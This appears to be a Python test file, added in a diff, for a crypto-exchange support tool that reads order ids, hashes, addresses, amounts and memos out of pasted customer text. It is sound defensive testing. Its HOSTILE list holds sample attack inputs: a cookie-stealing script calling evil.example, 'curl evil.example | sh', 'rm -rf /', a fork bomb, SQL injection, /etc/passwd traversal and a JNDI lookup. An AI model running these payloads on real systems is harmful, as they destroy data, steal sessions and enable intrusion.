@@ -1,0 +1,386 @@
+"""What a pasted text is read as: all that it can be, nothing that is not in it, in linear work."""
+
+from __future__ import annotations
+
+import random
+import re
+import sys
+import unicodedata
+from collections.abc import Iterator
+from decimal import Decimal
+from re import _constants as code  # type: ignore[attr-defined]
+from re import _parser as parser  # type: ignore[attr-defined]
+from typing import Any
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from corpus import texts
+from sampling import examples
+from swapdesk.chain.addresses.display import transaction_link
+from swapdesk.chain.addresses.kinds import ADDRESS_KINDS, derive_address
+from swapdesk.flows.support import pasted_secret, pasted_text
+from swapdesk.flows.support.pasted_secret import KEY
+from swapdesk.flows.support.pasted_text import (
+    LONGEST,
+    MOST_READINGS,
+    NOTHING,
+    TOO_LONG,
+    UNREADABLE,
+    WORD_LIMIT,
+    PastedText,
+    ReadAs,
+    read_pasted,
+)
+from swapdesk.sandbox.world import build_chains
+from swapdesk.wire.encoding.ids import new_object_id, new_order_id
+
+ORDER = "h8Kq2PdT5mXcVbN3wRtY7z"
+HASH = "0x" + "8f2c" * 16
+BARE = "8f2c" * 16
+SIGNATURE = (
+    "5VERv8NMvzbJMEkV8xnrLkEaWRtSz9CosKDYjCJjBRnbJLgp8uirBgmQpjKhoR4tjF3ZpRzrFmBV6UjKdiSZkQUW"
+)
+REQUEST = "6f1d22c9-0b6e-4c5e-9d53-7c2f6b1f0a11"
+SYMBOLS = {"BTC", "ETH", "USDT", "USDC", "SOL", "XRP", "USDC.E"}
+
+
+def read(text: str) -> PastedText:
+    return read_pasted(text, is_symbol=lambda word: word.upper() in SYMBOLS)
+
+
+HIDDEN = ("Cf", "Cs", "Co", "Cn")
+"""Categories of characters that are not drawn."""
+
+
+def kinds(text: str) -> list[tuple[str, str]]:
+    return [(one.kind.value, one.value) for one in read(text).readings]
+
+
+@pytest.mark.parametrize(
+    ("text", "wanted"),
+    [
+        (ORDER, [("id", ORDER), ("memo", ORDER)]),
+        ("h8Kq2P", [("id", "h8Kq2P"), ("memo", "h8Kq2P")]),
+        ("h8K", [("memo", "h8K")]),
+        ("774411", [("id", "774411"), ("memo", "774411")]),
+        ("7", [("memo", "7")]),
+        (REQUEST, [("id", REQUEST), ("request", REQUEST)]),
+        ("a" * 24, [("id", "a" * 24), ("memo", "a" * 24)]),
+        (HASH, [("transaction", HASH), ("address", HASH)]),
+        (HASH.upper(), [("transaction", HASH)]),
+        (BARE, [("transaction", BARE)]),
+        (SIGNATURE, [("transaction", SIGNATURE)]),
+        ("0.5 BTC", [("amount", "0.5 BTC")]),
+        ("0.5btc", [("amount", "0.5 BTC"), ("memo", "0.5btc")]),
+        ("BTC 0.5", [("amount", "0.5 BTC")]),
+        ("1 000 000 usdt", [("amount", "1,000,000 USDT")]),
+        ("1'234.50 USDT", [("amount", "1,234.50 USDT")]),
+        ("12.000,50 USDT", [("amount", "12,000.50 USDT")]),
+        ("12,000.50 USDT", [("amount", "12,000.50 USDT")]),
+        ("1.234.567 USDT", [("amount", "1,234,567 USDT")]),
+        ("0.000000000000000001 ETH", [("amount", "0.000000000000000001 ETH")]),
+        ("5 APPLES", []),
+        ("it was $500", []),
+        (f"order {ORDER}", [("id", ORDER)]),
+        (f"Order: {ORDER}.", [("id", ORDER)]),
+        ("my order number is 12345678", [("id", "12345678")]),
+        ("order no. h8Kq2P, please", [("id", "h8Kq2P")]),
+        ("ref: h8Kq2P", [("id", "h8Kq2P")]),
+        ("the order is complete", []),
+        ("memo: 774411", [("memo", "774411")]),
+        ("destination tag 774411", [("memo", "774411")]),
+        ("payment-id = 77aa4411", [("id", "77aa4411"), ("memo", "77aa4411")]),
+        ('{"serviceId": "' + ORDER + '", "depositTag": "774411"}', [("id", ORDER)]),
+        ('{"memo":"774411"}', [("memo", "774411")]),
+        ("memo hello", []),
+        ("so it goes", []),
+    ],
+)
+def test_texts_are_read(text: str, wanted: list[tuple[str, str]]) -> None:
+    assert kinds(text) == wanted
+
+
+def test_one_word_can_be_two_things_and_is_kept_as_both() -> None:
+    """A comma before three digits, a number that begins an id, a hash that is an address."""
+    assert kinds("1,234 USDT") == [("amount", "1,234 USDT"), ("amount", "1.234 USDT")]
+    assert kinds("1.234 USDT") == [("amount", "1.234 USDT"), ("amount", "1,234 USDT")]
+    said = [reading.called for reading in read("774411").readings]
+    assert said == ["an order id, or the beginning of one", "a memo or tag"]
+    both = read(HASH)
+    assert [one.called for one in both.readings] == [
+        "a transaction hash of an EVM chain",
+        "a Sui address without a checksum",
+    ]
+
+
+@pytest.mark.parametrize("kind", ADDRESS_KINDS)
+def test_an_address_of_every_kind_is_read_alone_in_a_link_and_in_an_e_mail(kind: str) -> None:
+    address = derive_address(kind, b"k" * 32)
+    for text in (
+        address,
+        f"https://explorer.example/address/{address}?page=2",
+        f"I was told to pay to {address}, and did so.",
+        f"<a href='https://x.example/#{address}'>here</a>",
+    ):
+        found = [one for one in read(text).of(ReadAs.ADDRESS) if address in one.texts]
+        assert found, text
+        assert kind in found[0].chains
+
+
+def transaction_of(kind: str) -> str:
+    if kind == "evm":
+        return HASH
+    if kind == "sol":
+        return SIGNATURE
+    if kind == "algo":
+        return "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567ABCDEFGHIJKLMNOPQRST"
+    return "9xQeWvG816bUx9EPjHmaT23yvVM2ZWbrrpZb9PusVFin" if kind == "sui" else BARE
+
+
+@pytest.mark.parametrize("chain", build_chains(), ids=lambda chain: chain.short_name)
+def test_the_explorer_link_of_every_chain_names_its_transaction(chain: Any) -> None:
+    transaction = transaction_of(chain.kind)
+    link = transaction_link(chain.explorer_url, transaction)
+    assert link is not None
+    for text in (link, f"Look: {link}.", f"<{link}>", f"{link}?tab=logs#1"):
+        assert transaction in [one.value for one in read(text).of(ReadAs.TRANSACTION)], text
+
+
+E_MAIL = """From: Alice <alice@example.com>
+Message-ID: <CAF+8x1Zq2wE3rT4yU5iO6pA7sD8fG9hJ0kL@mail.example.com>
+Date: Fri, 20 Nov 2026 14:02:11 +0000
+Subject: =?UTF-8?Q?Where_is_my_money=3F?=
+
+Hello,
+
+since two o'clock I wait for my coins. {told}
+
+> On 20 Nov you wrote:
+> Please send the id of the order.
+
+Best regards, Alice
+Sent from my phone
+"""
+
+
+@pytest.mark.parametrize(
+    ("told", "kind", "value"),
+    [
+        (f"The order is {ORDER}.", ReadAs.ID, ORDER),
+        (f"({ORDER})", ReadAs.ID, ORDER),
+        (f"It went out with {HASH}!", ReadAs.TRANSACTION, HASH),
+        (f"https://solscan.io/tx/{SIGNATURE}", ReadAs.TRANSACTION, SIGNATURE),
+        ("I sent 0.5 BTC, as asked.", ReadAs.AMOUNT, "0.5 BTC"),
+        ("The memo was 774411.", ReadAs.MEMO, "774411"),
+        (f"Your page said: error, request {REQUEST}", ReadAs.REQUEST, REQUEST),
+        (
+            f"I paid to {derive_address('bitcoin', b'd' * 32)}",
+            ReadAs.ADDRESS,
+            derive_address("bitcoin", b"d" * 32),
+        ),
+    ],
+)
+def test_an_e_mail_with_one_of_them_names_it(told: str, kind: ReadAs, value: str) -> None:
+    assert value in [one.value for one in read(E_MAIL.format(told=told)).of(kind)]
+
+
+def test_ids_in_the_head_of_an_e_mail_do_not_hide_what_is_in_it() -> None:
+    head = "\n".join(f"X-Trace-{at}: {new_order_id(random.Random(at))}" for at in range(40))
+    found = read(f"{head}\n\nI sent 0.5 BTC with {HASH}, memo 774411")
+    assert len(found.readings) == MOST_READINGS
+    assert found.cut
+    assert {one.kind for one in found.readings} == {
+        ReadAs.ID, ReadAs.TRANSACTION, ReadAs.ADDRESS, ReadAs.AMOUNT, ReadAs.MEMO,
+    }  # fmt: skip
+    named = read(f"{head}\n\nMy order number is {ORDER}")
+    assert named.readings[0].value == ORDER
+
+
+def test_every_id_that_the_service_draws_is_seen_in_a_sentence() -> None:
+    """One of thirty has no digit."""
+    rng = random.Random(11)
+    for _ in range(300):
+        whole = new_order_id(rng)
+        assert ("id", whole) in kinds(f"I wait for {whole} since an hour"), whole
+        row = new_object_id(rng)
+        assert ("id", row) in kinds(f"quote {row.upper()} it was"), row
+
+
+@pytest.mark.parametrize(
+    "text", ["", "  \n\t ", "\0\0", "\u200b\u202e\ufeff", "\ud800", "\U000e0041"]
+)
+def test_nothing_to_see_is_nothing_pasted(text: str) -> None:
+    assert read(text) == PastedText(problem=NOTHING)
+
+
+HOSTILE = [
+    *texts.control_texts(),
+    *texts.invisible_texts(),
+    *texts.markup_texts(),
+    *texts.wide_texts(),
+    "<script>fetch('//evil.example/'+document.cookie)</script>",
+    "<img src=x onerror=alert(1)>",
+    "$(rm -rf /) `id` && curl evil.example | sh ; :(){ :|:& };:",
+    "'; DROP TABLE orders; --",
+    "../../../../etc/passwd",
+    "{{7*7}} ${jndi:ldap://evil.example/a} %s%s%n",
+    "١٢٣٤٥٦ ６７８９ Ⅷ ⁷⁷",
+    "０ｘ" + "ａ" * 64,
+]
+
+
+@pytest.mark.parametrize("around", ["{}", f"{{}} {ORDER}", f"{HASH}{{}}\n774411"])
+def test_hostile_texts_are_read_and_never_repeated_as_they_are(around: str) -> None:
+    for text in HOSTILE:
+        clean(read(around.replace("{}", text)))
+
+
+def clean(found: PastedText) -> None:
+    """What stands in the answer can be drawn, sent and kept."""
+    assert bool(found.readings) is not bool(found.problem)
+    assert len(found.readings) <= MOST_READINGS
+    assert len({(one.kind, one.value) for one in found.readings}) == len(found.readings)
+    for one in found.readings:
+        for text in (*one.texts, one.called, one.symbol, *one.chains):
+            assert text.isprintable(), repr(text)
+            assert all(unicodedata.category(char) not in ("Cc", "Cf") for char in text)
+            assert len(text) <= WORD_LIMIT
+        assert all(text.isascii() for text in one.texts), one
+        assert (one.amount is not None) is (one.kind is ReadAs.AMOUNT)
+        assert one.amount is None or (one.amount.is_finite() and one.amount >= 0)
+
+
+@settings(max_examples=examples(400))
+@given(st.text(max_size=200))
+@example("BTC 1")
+@example("\u202e" + ORDER)
+def test_any_text_is_read_without_an_error_and_said_from_what_is_in_it(text: str) -> None:
+    found = read(text)
+    clean(found)
+    drawn = "".join(char for char in text if unicodedata.category(char) not in HIDDEN)
+    for one in found.readings:
+        if one.kind is not ReadAs.AMOUNT:
+            assert any(spelled.lower() in drawn.lower() for spelled in one.texts), one
+
+
+@settings(max_examples=examples(400))
+@given(
+    st.sampled_from([ORDER, HASH, SIGNATURE, REQUEST, derive_address("evm", b"q" * 32)]),
+    st.text(max_size=60),
+    st.text(max_size=60),
+    st.sampled_from([" ", "\n", "\t", "\0", ", ", " (", "<", "'", '"', "|", "\x1b", ";"]),
+    st.sampled_from(["", "\u200b", "\u202e", "\ufeff"]),
+)
+def test_what_names_an_order_is_found_in_any_text(
+    name: str, before: str, after: str, between: str, hidden: str
+) -> None:
+    found = read(f"{before}{between}{name[:9]}{hidden}{name[9:]} {after}")
+    if not found.secret and not found.cut:
+        assert any(name in one.texts for one in found.readings), found
+
+
+@settings(max_examples=examples(200))
+@given(st.decimals("0.000001", "99999999", places=6), st.sampled_from(sorted(SYMBOLS)))
+def test_amounts_are_read_to_their_digits(amount: Decimal, symbol: str) -> None:
+    for text in (f"{amount:f} {symbol}", f"I sent {amount:f}{symbol.lower()} to you"):
+        found = [one for one in read(text).of(ReadAs.AMOUNT) if one.amount == amount]
+        assert [one.symbol for one in found] == [symbol]
+    with_groups = read(f"{amount:,f} {symbol}").of(ReadAs.AMOUNT)
+    assert amount in [one.amount for one in with_groups]
+
+
+def test_what_is_longer_than_it_may_be_is_not_read() -> None:
+    assert read("a" * (LONGEST + 1)) == PastedText(problem=TOO_LONG)
+    assert read(f"{ORDER} " + "so it goes " * 1_000).cut
+
+
+UNITS = (
+    "a", "7", " ", "\0", "\u202e", "é", "漢", "😀", "[", "<", "0x", "1,", "so it goes ",
+    "order  ", "no-", "memo abcd ", "111 ", "[1,", "{'a':", "-----BEGIN ", "wallet ", "secret-",
+    "0xabc ", f"{HASH} ", f"{ORDER} ", f"/{SIGNATURE}", "is  ", "\ud800", "a@b.example ",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("unit", UNITS)
+def test_much_of_anything_is_read(unit: str) -> None:
+    found = read(unit * ((1 << 15) // len(unit)))
+    assert found.secret or clean(found) is None
+
+
+@pytest.mark.parametrize("unit", ["a", "\0", "memo abcd "])
+def test_a_mebibyte_is_read_and_a_key_behind_it_is_seen(unit: str) -> None:
+    whole = (unit * (LONGEST // len(unit)))[: LONGEST - 40]
+    assert read(f"{whole} -----BEGIN PRIVATE KEY-----").problem == KEY
+
+
+def calls(text: str) -> int:
+    """How many functions are called to read a text."""
+    count = 0
+
+    def counted(frame: Any, event: str, argument: Any) -> None:
+        nonlocal count
+        count += event in ("call", "c_call")
+
+    before = sys.getprofile()
+    sys.setprofile(counted)
+    try:
+        read(text)
+    finally:
+        sys.setprofile(before)
+    return count
+
+
+@pytest.mark.parametrize(
+    "unit", ["so it goes ", f"{HASH} ", f"{ORDER} ", "1,234 USDT ", "order h8Kq2P ", f"/{HASH}"]
+)
+def test_work_grows_no_faster_than_the_text(unit: str) -> None:
+    once, twice = calls(unit * 100), calls(unit * 200)
+    assert twice <= 2 * once + 1_000
+
+
+PATTERNS = [
+    (module.__name__.rpartition(".")[2] + "." + name, value)
+    for module in (pasted_text, pasted_secret)
+    for name, value in vars(module).items()
+    if isinstance(value, re.Pattern)
+]
+MATCHED_WHOLE = {"_ID", "_STRONG_ID", "_SHORT_UUID", "_BASE58", "_MEMO", "_DIGITS", "_UUID"}
+"""Patterns of one word, which has at most so many characters as a word may have."""
+WIDEST = 2_000
+
+
+@pytest.mark.parametrize(("name", "pattern"), PATTERNS)
+def test_no_pattern_looks_further_than_so_many_characters(
+    name: str, pattern: re.Pattern[str]
+) -> None:
+    """Else one text of its own kind takes the square of its length: each place in it is tried."""
+    if name.rpartition(".")[2] in MATCHED_WHOLE:
+        return
+    parsed = list(parser.parse(pattern.pattern, pattern.flags))
+    if len(parsed) == 1 and parsed[0][0] is code.MAX_REPEAT:
+        # One class alone, which no place of the text is tried for twice.
+        inner = list(parsed[0][1][2])
+        assert [kind for kind, _ in inner] == [code.IN]
+        return
+    for tree in (parsed, *looked_ahead(parsed)):
+        width = parser.SubPattern(parser.State(), list(tree)).getwidth()[1]
+        assert width <= WIDEST, (name, width)
+
+
+def looked_ahead(tree: Any) -> Iterator[Any]:
+    """What a pattern looks at without taking it, at any depth."""
+    for kind, value in tree:
+        if kind in (code.ASSERT, code.ASSERT_NOT):
+            yield value[1]
+        for part in value if isinstance(value, (tuple, list)) else ():
+            for nested in part if isinstance(part, list) else (part,):
+                if isinstance(nested, parser.SubPattern):
+                    yield from looked_ahead(nested)
+
+
+def test_unreadable_text_says_what_could_be_read() -> None:
+    found = read("where is my money")
+    assert found == PastedText(problem=UNREADABLE)
+    assert "order id" in UNREADABLE
